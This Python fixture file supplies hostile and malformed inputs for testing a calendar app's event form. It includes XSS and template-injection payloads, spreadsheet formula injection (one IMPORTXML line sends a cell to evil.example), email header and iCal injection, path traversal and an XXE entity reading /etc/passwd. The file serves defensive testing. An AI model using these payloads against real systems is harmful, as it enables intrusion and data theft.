# ruff: noqa: RUF001, E501, Q003 - letters that look like others are what is tried, in tables
"""What is sent to the form by people who mean no good, by programs that are broken, and by slips of the hand.

Each case is a name and what it changes in a form that is right. `RAW` are whole requests that no browser sends.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from calendar_app.planning.vocabulary import LinkKind

PROBE = "probe()"
MARKUP = [
    f"<script>{PROBE}</script>",
    f'"><img src=x onerror={PROBE}>',
    f"'><svg/onload={PROBE}>",
    f"</title><script>{PROBE}</script>",
    f"</textarea><script>{PROBE}</script>",
    f"<iframe srcdoc='<script>{PROBE}</script>'></iframe>",
    f"<a href='javascript:{PROBE}'>x</a>",
    f"<math><mi//xlink:href='data:x,<script>{PROBE}</script>'>",
    f"<![CDATA[<script>{PROBE}</script>]]>",
    f"&lt;script&gt;{PROBE}&lt;/script&gt;",
    f"&#60;script&#62;{PROBE}&#60;/script&#62;",
    f"<style>@import'{PROBE}'</style>",
    f"<!--<script>{PROBE}</script>-->",
    f"<meta http-equiv=refresh content='0;url=javascript:{PROBE}'>",
    f"<base href='//evil.example/'><script>{PROBE}</script>",
    "{{7*7}}{% raw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(title)s %(name)s %s %d %%",
    "{0.__class__}{title}",
    "[x](javascript:probe())",
]
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1+1", "＝1+1", "＋1+1", "－1", "＠SUM(A1)", ";=1+1", ",=1+1", "|=1+1",
    "%0A=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "#REF!", "-", "=", "@", "+49 30 1234",
]  # fmt: skip
LINES = [
    "a\r\nSet-Cookie: a=b", "a\r\nBcc: victim@evil.example", "a\nBcc: victim@evil.example", "a\rBcc: x@evil.example",
    "a\r\n\r\n<html>", "a\u2028Bcc: x@evil.example", "a\u2029b", "a\x0bb", "a\x0cb", "a\x85b",
    "a\r\nBEGIN:VEVENT\r\nUID:evil\r\nEND:VEVENT", "a\nEND:VCALENDAR\n", "DTSTART:20270101", "a;b,c\\n:d\\",
    "\\n\\n\\;\\,", "a\\", "=?utf-8?b?QmNjOiB4?=", "a" + "\n" * 200 + "b",
]  # fmt: skip
SIGNS = [
    "\0", "a\0b", "a\x01b", "a\x08b", "a\x1bb\x1b[31m", "a\x7fb", "a\x9fb", "a\ufeffb", "a\ufffeb", "a\uffffb",
    "a\u202eb gro.elpmaxe", "\u202ecod.exe", "a\u202ab\u202cc", "\u2066a\u2069", "\u2067\u2067\u2067", "a\u200fb",
    "a\u200bb", "a\u2060b", "\u200b", "\u00ad", "\u034f", "a\u0301\u0301\u0301" * 40, "Z\u0335\u0321" * 60,
    "💥👩‍👩‍👧‍👦🏳️‍🌈", "\U000e0041\U000e0042", "\U0001f1e6", "\ufdfa" * 20, "ﷺ", "ıİiI", "ß" * 100, "Ω≈ç√∫",
    "ด้้้้้็็็็็้้้้้", "﷽", "𝕳𝖊𝖑𝖑𝖔", "\ufff9a\ufffab\ufffb", "\ue000\uf8ff", "\U0010ffff", "\U0001fffe",
    "اجتماع الأطراف", "פגישה", "会议", "สัมมนา", "Встреча", "ﬁﬂﬀ", "Ⅷ", "①②③", "٢٠٢٧", "½", "…", "¿?", "...",
]  # fmt: skip
LENGTHS = [0, 1, 299, 300, 301, 499, 500, 501, 999, 1000, 1001, 5000, 19_999, 20_000, 20_001, 50_000]
DAYS = [
    "0000-00-00", "0001-01-01", "1969-12-31", "1970-01-01", "2099-12-31", "2100-01-01", "9999-12-31", "10000-01-01",
    "99999-01-01", "-2027-01-01", "2027-02-29", "2028-02-29", "2027-02-30", "2027-13-01", "2027-00-10", "2027-1-1",
    "27-01-01", "01.04.2027", "04/19/2027", "2027-04-19T10:00", "2027-04-19 00:00", "2027/04/19", "20270419", "today",
    "1e9", "NaN", "٢٠٢٧-٠٤-١٩", "２０２７-04-19", "2027‐04‐19", " 2027-04-19 ", "2027-04-19\0", "2027-W16-1",
    "9" * 400,
]  # fmt: skip
ZONES = [
    "Europe/Zürich", "europe/zurich", "EUROPE/ZURICH", "CET", "UTC", "GMT", "EST5EDT", "localtime", "Factory",
    "../../etc/passwd", "/etc/localtime", "Europe/", "/", ".", "Europe/Zurich\0", "posix/Europe/Zurich",
    "right/UTC", "Etc/GMT+14", "America/Argentina/Buenos_Aires", "Asia/Kathmandu", "x" * 61, "UTC+1", "+01:00", "<b>",
]  # fmt: skip
HOURS = [
    "24:00", "23:59", "00:00", "9:30", "09:60", "09:30:00", "0930", "9am", "-1:00", "٠٩:٣٠", "99:99", "09:30\0", "x" * 400,
]  # fmt: skip
ADDRESSES = [
    "javascript:probe()", "JaVaScRiPt:probe()", "data:text/html,<script>probe()</script>", "vbscript:x", "//evil.example",
    "ftp://x.example", "file:///etc/passwd", "https://", "http://", "https:// x", 'https://x.example/"onclick="probe()',
    "https://x.example/<script>", "https://x.example/\r\nSet-Cookie:a=b", "https://x.example/\0", "https://user:pw@x.example/",
    "https://[::1]/", "https://[", "http://127.0.0.1:1", "https://bücher.example/ä?ö=ü#ß", "https://x.example/'a';b,c\\d",
    "https://x.example/%0d%0aBcc:x", "https://" + "a" * 992, "https://" + "a" * 993, "https://x.example/\u202ecod.exe",
    "https://x.example/a b", "mailto:x@x.example", "www.x.example", "  https://x.example  ", "https://x.example/{{7*7}}",
]  # fmt: skip
MAILBOXES = [
    "x", "x@", "@x", "x@@x.example", "x@x", "x@localhost", "a b@x.example", "x@x.example\nBcc: y@y.example",
    "x@x.example\r\nBcc: y@y.example", "x@x.example,y@y.example", "x@x.example;y@y.example", "<x@x.example>",
    '"a b"@x.example', "X <x@x.example>", "x@[127.0.0.1]", "x" * 65 + "@x.example", "x@" + "a" * 250 + ".example",
    "x@-x.example", "x@x..example", ".x@x.example", "x@ⓧ.example", "x\0@x.example", "ünï@bücher.example", "x@xn--a",
    "=cmd@x.example", "+x@x.example", "\u202ex@x.example",
]  # fmt: skip
CHOICES = {
    "organisation": ["", "nobody", "BRS", "brs ", "brs\0", "unep", "__proto__", "1"],
    "kind": ["", "nonsense", "COP", "cop'--", "0"],
    "convention": ["nonsense", "BASEL", "basel\0", "basel,minamata"],
    "region": ["nonsense", "africa", "global;Africa"],
    "languages": ["xx", "EN", "en fr"],
    "status": ["", "postponed", "cancelled", "CONFIRMED", "maybe"],
    "format": ["", "in person", "both"],
    "country": ["XX", "ch", "CHE", "Switzerland", "EU"],
    "access": ["secret", "PUBLIC"],
    "title_language": ["", "de", "EN", "en\0"],
    "description_language": ["", "de"],
    "dates": ["", "days", "DAY", "week"],
    "part_role": ["whole"],
    "quarter": ["2027-Q5", "2027Q2", "0000-Q1"],
    "visibility": ["steward", "secret"],
    "stage": ["published"],
    "steward": ["minamata"],
}
NAMED = [
    "nonsense", "/events/", "/events/x", "https://evil.example/events/1", "00000000-0000-0000-0000-000000000000",
    "{00000000000000000000000000000000}", "urn:uuid:00000000-0000-0000-0000-000000000000", "' OR 1=1 --", "%", "_",
    "/events/../admin", "x" * 301, "<b>", "0",
]  # fmt: skip


@dataclass(frozen=True)
class Case:
    """A form that is right but for `changes`; `None` leaves the field out, a list gives it several times."""

    name: str
    changes: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class Raw:
    """A request of its own: body and headers."""

    name: str
    body: bytes
    content_type: str = "application/x-www-form-urlencoded"


def _each(field_name: str, values: list[Any], **rest: Any) -> list[Case]:
    return [Case(f"{field_name}-{number}", {field_name: value, **rest}) for number, value in enumerate(values)]


# Texts that are stored, nearly all of them.
TEXTS: list[Case] = [
    *_each("title", [*MARKUP, *FORMULAS, *LINES, *SIGNS]),
    *(Case(f"title-length-{n}", {"title": "é" * n}) for n in LENGTHS),
    *(Case(f"description-length-{n}", {"description": "a " * (n // 2) + "b" * (n % 2)}) for n in LENGTHS),
    *_each("description", [*MARKUP, *FORMULAS[:4], *LINES[:12], *SIGNS[:12]]),
    *_each("venue", [*MARKUP[:6], *FORMULAS[:10], *LINES[:6], *SIGNS[:8]]),
    *_each("name", [*MARKUP[:10], *FORMULAS[:8], *LINES[:12], *SIGNS[:14]]),
    *_each("city", ["Geneva", "geneva", "GENÈVE", "日内瓦", MARKUP[0], FORMULAS[0], LINES[0], "x" * 120, "x" * 121]),
    *_each("contact", [*MARKUP[:6], *FORMULAS[:6], *LINES[:8]]),
    *_each("date_text", [*MARKUP[:6], *FORMULAS[:6], *LINES[:8], *SIGNS[:10]], dates="words"),
    *_each("lead", [*MARKUP[:4], *FORMULAS[:4], "BRS; ; Minamata;", ";;;", "x" * 201, "brs; BRS; Secretariat"]),
    *_each("co_organisers", ["\n".join(["x"] * 51), "x" * 201, "\n\n\nBRS\nBRS\n", MARKUP[1], FORMULAS[0]]),
    *_each("remote_participation", [MARKUP[1], FORMULAS[4], LINES[1], "x" * 301]),
]  # fmt: skip

# Values that have a form of their own: nearly all are refused before the database sees them.
VALUES: list[Case] = [
    *_each("first_day", DAYS, last_day=""),
    *_each("last_day", [*DAYS[:12], "2027-04-18", "2099-12-31"]),
    *_each("month", ["", "2027-13", "2027-4", "0001-01", "9999-12", "2027", "April 2027", "2027-04-01"], dates="month"),
    *_each("year", ["", "0", "1969", "2101", "99999", "abc", "２０２７"], dates="year"),
    *_each("timezone", ZONES, start_time="09:00", last_day="2027-04-19"),
    *_each("start_time", HOURS, timezone="Europe/Zurich", last_day=""),
    *_each("end_time", HOURS, timezone="Europe/Zurich", start_time="10:00", last_day=""),
    *(Case(f"{name}-{n}", {name: value}) for name in ("web_url", "online_url") for n, value in enumerate(ADDRESSES)),
    *_each("email", MAILBOXES),
    *(Case(f"{name}-{n}", {name: value}) for name, values in CHOICES.items() for n, value in enumerate(values)),
    *_each("body", ["nonsense", "BC-COP; nonsense", "BC-COP" * 60, MARKUP[0], "BC-COP;;BC-COP", "bc-cop", ";"]),
    *_each("meeting_number", ["1", "0", "-1", "1.5", "99999", "x", "1;2", "²", "٣", "1" * 61, "1;"], body="BC-COP"),
    *_each("part_of", NAMED),
    *_each("link_event_1", NAMED, link_kind_1=str(LinkKind.SAME_AS)),
    *_each("link_kind_2", ["", "nonsense", "same-as"]),
    *_each("expected_participants", ["-1", "1e9", "9" * 5000, "x"]),
    Case("all titles", {f"title_{code}": MARKUP[0] for code in ("en", "ar", "es", "fr", "ru", "zh")}),
    Case("two titles in one language", {"title": "A", "title_en": "B"}),
    Case("a title twice", {"title": ["First", "Second"]}),
    Case("an organisation twice", {"organisation": ["brs", "minamata"]}),
    Case("every tick twice", {"convention": ["basel", "basel"], "region": ["Africa"] * 90, "languages": ["en"] * 3}),
    Case("too many ticks", {"convention": ["basel"] * 400}),
    *(Case(f"without {name}", {name: None}) for name in ("title", "kind", "organisation", "dates", "name", "email")),
    *(Case(f"without {name}", {name: None}) for name in ("title_language", "first_day", "key", "csrf_token", "opened")),
    Case("unknown fields", {"__class__": "x", "stage": "published", "id": "1", "account_id": "1", "confirmed_at": "now"}),
    Case("the end of time", {"first_day": "2099-12-31", "last_day": "2099-12-31", "start_time": "23:59", "timezone": "UTC"}),
    Case("the longest meeting", {"first_day": "1970-01-01", "last_day": "2099-12-31"}),
    Case("an hour that does not exist", {
        "first_day": "2027-03-28", "last_day": "2027-03-28", "start_time": "02:30", "timezone": "Europe/Zurich",
    }),
    Case("an hour that comes twice", {
        "first_day": "2027-10-31", "last_day": "2027-10-31", "start_time": "02:30", "timezone": "Europe/Zurich",
    }),
    Case("a night", {
        "last_day": "2027-04-19", "start_time": "22:00", "end_time": "02:00", "timezone": "Pacific/Apia",
    }),
]  # fmt: skip

CASES = [*TEXTS, *VALUES]

RAW: list[Raw] = [
    Raw("nothing", b""),
    Raw("no form", b"{}", "application/json"),
    Raw("a form called json", b"title=x", "application/json"),
    Raw("plain text", b"title=x", "text/plain"),
    Raw("xml", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "application/xml"),
    Raw("invalid UTF-8", b"title=%ff%fe%c3%28&organisation=brs"),
    Raw("bytes", bytes(range(256))),
    Raw("surrogates", b"title=%ed%a0%80%ed%bf%bf&name=%ed%a0%80"),
    Raw("overlong", b"title=%c0%af%e0%80%af&first_day=%00"),
    Raw("broken percents", b"title=%&name=%zz&email=%%%"),
    Raw("UTF-16", "title=x".encode("utf-16")),
    Raw("another character set", b"title=%e9", "application/x-www-form-urlencoded; charset=utf-7"),
    Raw("no boundary", b"--x\r\n", "multipart/form-data"),
    Raw(
        "broken parts", b"--x\r\nContent-Disposition: form-data; name=title\r\n\r\nx", "multipart/form-data; boundary=x"
    ),
    Raw(
        "parts",
        b'--x\r\nContent-Disposition: form-data; name="title"\r\n\r\nx\r\n--x--\r\n',
        "multipart/form-data; boundary=x",
    ),
    Raw(
        "a file",
        b'--x\r\nContent-Disposition: form-data; name="title"; filename="a.exe"\r\n\r\nMZ\r\n--x--\r\n',
        "multipart/form-data; boundary=x",
    ),
    Raw("endless name", b"a" * 10_000 + b"=1"),
    Raw("many fields", b"&".join(b"f%d=1" % n for n in range(3000))),
    Raw("a megabyte", b"title=" + b"x" * 1_000_000),
    Raw("two megabytes", b"title=" + b"x" * 2_000_000),
    Raw("more than two megabytes", b"title=" + b"x" * 2_200_000),
    Raw("NUL", b"\0" * 1000),
    Raw("an unknown type", b"title=x", "x"),
    Raw("no type", b"title=x", ""),
]
